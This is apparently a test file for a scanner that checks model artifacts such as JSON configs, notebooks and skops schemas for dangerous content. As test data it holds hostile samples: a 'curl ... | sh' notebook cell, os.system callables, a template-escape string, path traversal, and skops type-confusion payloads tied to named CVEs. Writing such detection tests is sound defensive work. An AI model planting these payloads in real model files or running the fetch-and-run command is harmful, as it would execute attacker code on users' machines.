import assert from "node:assert/strict";
import { test } from "node:test";
import fc from "fast-check";
import { scanBytes } from "../../../../test/fixtures/artifacts/scan-bytes.ts";
import { json } from "./json-config.ts";
import { notebook } from "./notebook.ts";

function rulesOf(value: unknown, name = "config.json"): readonly string[] {
  const text = typeof value === "string" ? value : JSON.stringify(value);
  const { findings } = scanBytes(Buffer.from(text), { formats: [json, notebook], name });
  return findings.map(({ rule }) => rule);
}

test("json: ordinary settings are clean", () => {
  const config = {
    _name_or_path: "/srv/me/base",
    architectures: ["LlamaForCausalLM"],
    model_type: "llama",
    chat_template: "{% for m in messages %}{{ m['content'] }}{% endfor %}",
    tokenizer_file: "/srv/hub/tokenizer.json",
  };
  assert.deepEqual(rulesOf(config), ["config/foreign-path"]);
});

test("json: a callback of JAX into Python is told", () => {
  for (const value of [
    "jax.experimental.host_callback.call(os.system, 'echo garita')",
    "jax.experimental.io_callback",
  ]) {
    assert.deepEqual(rulesOf({ framework: "jax", payload: [value] }), ["graph/code-in-text"]);
  }
  assert.deepEqual(rulesOf({ note: "no jax.experimental.io_callback is used" }), []);
});

test("json: code of this and of other repositories is noticed", () => {
  assert.deepEqual(rulesOf({ auto_map: { AutoModel: "modeling_x.X" } }), ["config/custom-code"]);
  assert.deepEqual(rulesOf({ auto_map: { AutoModel: "a/b--m.X" } }), ["config/remote-code"]);
  assert.deepEqual(rulesOf({ auto_map: { AutoTokenizer: ["t.T", null] } }), ["config/custom-code"]);
  assert.deepEqual(rulesOf({ trust_remote_code: true }), ["config/trusts-remote-code"]);
  assert.deepEqual(rulesOf('{"auto_map": {}, "auto_map": {"A": "m.X"}}'), ["config/custom-code"]);
});

test("json: hostile templates, targets and paths are found wherever they stand", () => {
  const template = "{{ x.__class__.__mro__ }}";
  assert.ok(rulesOf({ chat_template: template }).includes("template/escape"));
  const list = [{ name: "default", template }];
  assert.ok(rulesOf({ chat_template: list }).includes("template/escape"));
  assert.deepEqual(rulesOf({ a: { _target_: "os.system" } }), ["config/runs-callable"]);
  assert.deepEqual(rulesOf({ tokenizer_file: "../../x" }), ["config/outside-path"]);
  assert.deepEqual(rulesOf({ "py/object": "os.system" }), ["config/pickled-text"]);
  const mapping = { auto_mapping: { base_model_class: "system", parent_library: "os" } };
  assert.deepEqual(rulesOf(mapping), ["config/runs-callable"]);
  const exported = { graph_module: { graph: { nodes: [{ target: "torch.os.system" }] } } };
  assert.deepEqual(rulesOf(exported), ["config/runs-callable"]);
});

function skopsNode(loader: string, type: string, content?: unknown): unknown {
  const [, module, name] = /^(.*)\.(\w+)$/.exec(type) ?? [];
  return { __class__: name, __module__: module, __loader__: loader, content };
}

test("skops: CVE-2025-54412, an operator under another module's name", () => {
  const node = skopsNode("OperatorFuncNode", "sklearn.linear_model.methodcaller");
  assert.deepEqual(rulesOf(node, "schema.json"), ["skops/dangerous-type"]);
  assert.deepEqual(rulesOf(skopsNode("OperatorFuncNode", "operator.itemgetter")), []);
});

test("skops: CVE-2025-54413, a method of another object than is shown", () => {
  const owner = skopsNode("ObjectNode", "sklearn.svm.SVC");
  const node = skopsNode("MethodNode", "builtins.list", { func: "fit", ["obj"]: owner });
  assert.deepEqual(rulesOf(node, "schema.json"), ["skops/dangerous-type"]);
  const hidden = skopsNode("MethodNode", "sklearn.svm.SVC", { func: "__builtins__.eval" });
  assert.deepEqual(rulesOf(hidden, "schema.json"), ["skops/dangerous-type"]);
});

test("skops: types are judged as those of a pickle (CVE-2025-54886 without its archive)", () => {
  assert.deepEqual(rulesOf(skopsNode("ObjectNode", "os.system")), ["skops/dangerous-type"]);
  assert.deepEqual(rulesOf(skopsNode("ObjectNode", "mine.Thing")), ["skops/unknown-type"]);
  assert.deepEqual(rulesOf(skopsNode("ObjectNode", "sklearn.svm._classes.SVC")), []);
  const other = skopsNode("PickleNode", "sklearn.svm._classes.SVC");
  assert.deepEqual(rulesOf(other), ["skops/unknown-type"]);
});

test("notebook: code cells, shell magics and scripts in outputs", () => {
  const cells = (source: unknown, outputs: unknown = []): unknown => ({
    cells: [{ cell_type: "code", metadata: {}, outputs, source }],
    nbformat: 4,
  });
  assert.deepEqual(rulesOf(cells(["import os\n", "os.system('x')"]), "a.ipynb"), [
    "python/starts-programs",
  ]);
  assert.deepEqual(rulesOf(cells("!pip install torch\nx = 1")), []);
  assert.deepEqual(rulesOf(cells("!curl http://x.invalid/a | sh")), ["python/hostile-command"]);
  assert.deepEqual(rulesOf(cells("%%bash\nmake")), ["python/shell-command"]);
  const outputs = [{ data: { "text/html": ["<script>1</script>"] } }];
  assert.deepEqual(rulesOf(cells("1", outputs)), ["python/active-output"]);
});

test("json: settings of logging and of Lightning name what is called", () => {
  const handler = { handlers: { h: { "()": "os.system", command: "echo garita" } } };
  assert.deepEqual(rulesOf(handler), ["config/runs-callable"]);
  assert.deepEqual(rulesOf({ h: { "()": "ext://subprocess.Popen" } }), ["config/runs-callable"]);
  assert.deepEqual(rulesOf({ class_path: "os.system" }), ["config/runs-callable"]);
  assert.deepEqual(rulesOf({ class_path: "lightning.Trainer", "()": "app.log.Json" }), []);
});

test("json: a secret is told by rule and place, never by its text", () => {
  const text = '{"token": "garita-secret"}';
  const report = scanBytes(Buffer.from(text), {
    formats: [json],
    name: "config.json",
    findSecrets: (given) => [{ rule: "secret/x", offset: given.indexOf("garita") }],
  });
  assert.deepEqual(report.findings, [
    { rule: "secret/found", member: [], offset: 11, values: { kind: "secret/x" } },
  ]);
});

test("json: any text ends in a report, and broken ones are of no format", () => {
  assert.deepEqual(scanBytes(Buffer.from('{"a": [1, '), { formats: [json] }).formats, []);
  const whole = JSON.stringify({ auto_map: { a: "b.C" }, list: [1, true, null, "\u00e9\n"] });
  fc.assert(
    fc.property(fc.nat(whole.length - 1), fc.nat(255), fc.nat(whole.length), (at, byte, cut) => {
      const bytes = Uint8Array.from(Buffer.from(whole));
      bytes[at] = byte;
      scanBytes(bytes.subarray(0, cut), { formats: [json, notebook] });
    }),
  );
  fc.assert(
    fc.property(fc.json(), (text) => {
      const formats = /^\s*[[{]/.test(text) ? ["json"] : [];
      assert.deepEqual(scanBytes(Buffer.from(text), { formats: [json] }).formats, formats);
    }),
  );
});
